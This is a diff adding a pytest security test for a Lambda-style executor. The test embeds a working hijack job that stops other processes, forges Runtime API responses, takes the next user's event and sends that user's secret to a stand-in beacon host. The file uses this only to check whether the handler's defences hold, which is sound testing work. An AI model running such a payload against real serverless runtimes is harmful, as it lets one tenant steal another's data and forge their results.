@@ -1,0 +1,162 @@
+"""The hijack of issue 9, run for real: user A's job stops every process it can signal,
+answers its own invoke through the Runtime API, waits on /next and receives user B's event.
+
+The stand-in's Runtime API behaves as rapid does (test_standin.py) and its environments are
+microVM-like (a private network, the Runtime API at 127.0.0.1:9001, the runtime as uid 993).
+Both directions are asserted: against a deliberately weakened handler (the job's defences
+off) the attack works, so the test can tell; against the shipped handler it fails.
+"""
+
+from __future__ import annotations
+
+import json
+import uuid
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from bot.core.models import Outcome, RunResult
+from bot.executors.aws_lambda.client import function_timeout_s
+from bot.executors.aws_lambda.executor import LambdaExecutor, build_lambda_executor
+from testbed.lambda_standin import LambdaStandIn
+from testbed.waiting import wait_until
+from tests.integration.lambda_executor.conftest import JOB_TIMEOUT, job, lambda_settings
+
+pytestmark = pytest.mark.usefixtures("aws_env")
+
+WEAKENED = (Path(__file__).parent / "weakened_handler.py").read_bytes()
+
+# User A's job. Its input names the beacon (the stand-in's stand-in for the internet).
+HIJACK = """\
+import http.client, json, os, signal
+
+def beacon(key):
+    conn = http.client.HTTPConnection("127.0.0.1", beacon_port, timeout=10)
+    conn.request("GET", "/beacon/" + key)
+    conn.getresponse().read()
+
+me, found = os.getpid(), {"stopped": [], "refused": []}
+for name in os.listdir("/proc"):
+    if name.isdigit() and int(name) != me:
+        try:
+            os.kill(int(name), signal.SIGSTOP)
+            found["stopped"].append(int(name))
+        except OSError as exc:
+            found["refused"].append(exc.errno)
+next_path = "/2018-06-01/runtime/invocation/next"
+try:
+    api = http.client.HTTPConnection("127.0.0.1", 9001, timeout=60)
+    api.request("GET", next_path)  # during our own invoke: our own event again
+    reply = api.getresponse()
+    own, _ = reply.headers["Lambda-Runtime-Aws-Request-Id"], reply.read()
+    forged = {"v": 1, "outcome": "ok", "result_json": '"fine"', "result_kind": "return",
+              "stdout": "", "stderr": "", "stdout_truncated": False, "stderr_truncated": False,
+              "error_type": None, "error_message": None, "traceback": None,
+              "duration_ms": 1, "exit_code": 0, "signal": None}
+    api.request("POST", f"/2018-06-01/runtime/invocation/{own}/response", json.dumps(forged))
+    api.getresponse().read()
+    api.request("GET", next_path)  # after our answer: whoever comes next
+    reply = api.getresponse()
+    theirs, event = reply.headers["Lambda-Runtime-Aws-Request-Id"], json.loads(reply.read())
+    beacon("stopped-%d" % len(found["stopped"]))
+    beacon("stolen-" + json.loads(event["input_json"])["secret"])
+    forged.update(outcome="error", result_json=None, result_kind=None,
+                  error_type="Hijacked", error_message="answered by user A")
+    api.request("POST", f"/2018-06-01/runtime/invocation/{theirs}/response", json.dumps(forged))
+    api.getresponse().read()
+except OSError as exc:
+    found["api"] = exc.errno
+print(json.dumps(found))
+"""
+# User B's job: one line, with a secret in its input.
+VICTIM = "def main(secret):\n    return 'B kept ' + secret\n"
+
+
+@dataclass
+class Attack:
+    """What the two users got, and what reached the beacon."""
+
+    a: RunResult
+    b: RunResult
+    secret: str
+    standin: LambdaStandIn
+
+    @property
+    def stolen(self) -> bool:
+        """B's input reached A's job."""
+        return self.standin.beacons[f"stolen-{self.secret}"] > 0
+
+    @property
+    def b_genuine(self) -> bool:
+        """B's own code answered B."""
+        return self.b.outcome is Outcome.OK and self.b.result_json == json.dumps(
+            f"B kept {self.secret}"
+        )
+
+
+def attack(standin: LambdaStandIn, executor: LambdaExecutor) -> Attack:
+    """A's job, then, once the environment is ready again, B's."""
+    _, beacon_port, _ = standin.beacon_url("")
+    a = executor.run(job(HIJACK, json.dumps({"beacon_port": beacon_port}), job_id=1))
+    wait_until(lambda: standin.ready_environments() >= 1, message="a ready runtime")
+    secret = uuid.uuid4().hex
+    b = executor.run(job(VICTIM, json.dumps({"secret": secret}), job_id=2))
+    return Attack(a, b, secret, standin)
+
+
+Make = Callable[..., tuple[LambdaStandIn, LambdaExecutor]]
+
+
+@pytest.fixture
+def stand_in(monkeypatch: pytest.MonkeyPatch) -> Iterator[Make]:
+    """A factory of microVM-like stand-ins (one environment at a time) and their executor."""
+    opened: list[tuple[LambdaStandIn, LambdaExecutor]] = []
+
+    def make(*, weakened: bool) -> tuple[LambdaStandIn, LambdaExecutor]:
+        extra = {
+            "handler": "weakened_handler.handler",
+            "extra_files": {"weakened_handler.py": WEAKENED},
+        }
+        standin = LambdaStandIn(
+            timeout_s=function_timeout_s(JOB_TIMEOUT),
+            max_concurrency=1,
+            network="private",
+            **(extra if weakened else {}),
+        )
+        monkeypatch.setenv("AWS_ENDPOINT_URL_LAMBDA", standin.endpoint_url)
+        executor = build_lambda_executor(lambda_settings())
+        opened.append((standin, executor))
+        return standin, executor
+
+    yield make
+    for standin, executor in opened:
+        executor.close()
+        standin.close()
+
+
+def test_against_a_weakened_handler_the_next_users_job_reaches_the_first(stand_in: Make) -> None:
+    standin, executor = stand_in(weakened=True)
+
+    done = attack(standin, executor)
+
+    assert done.a.result_json == '"fine"', standin.logs()  # A answered its own invoke
+    assert standin.beacons["stopped-1"] == 1  # the runtime: the one process A could stop
+    assert done.stolen  # B's code and input reached A's job
+    assert (done.b.error_type, done.b.error_message) == ("Hijacked", "answered by user A")
+    assert [r.environment for r in standin.records] == [0, 0]
+
+
+@pytest.mark.xfail(strict=True, reason="the shipped handler has no defence yet (issue 9, item 2)")
+def test_against_the_shipped_handler_the_attack_fails(stand_in: Make) -> None:
+    standin, executor = stand_in(weakened=False)
+
+    done = attack(standin, executor)
+
+    assert done.a.outcome is Outcome.OK, standin.logs()
+    found = json.loads(done.a.stdout)
+    assert found["stopped"] == []
+    assert found["api"] == 1  # EPERM: no socket to reach the Runtime API
+    assert done.b_genuine and not done.stolen
+    assert [r.environment for r in standin.records] == [0, 0]  # shared, and still safe
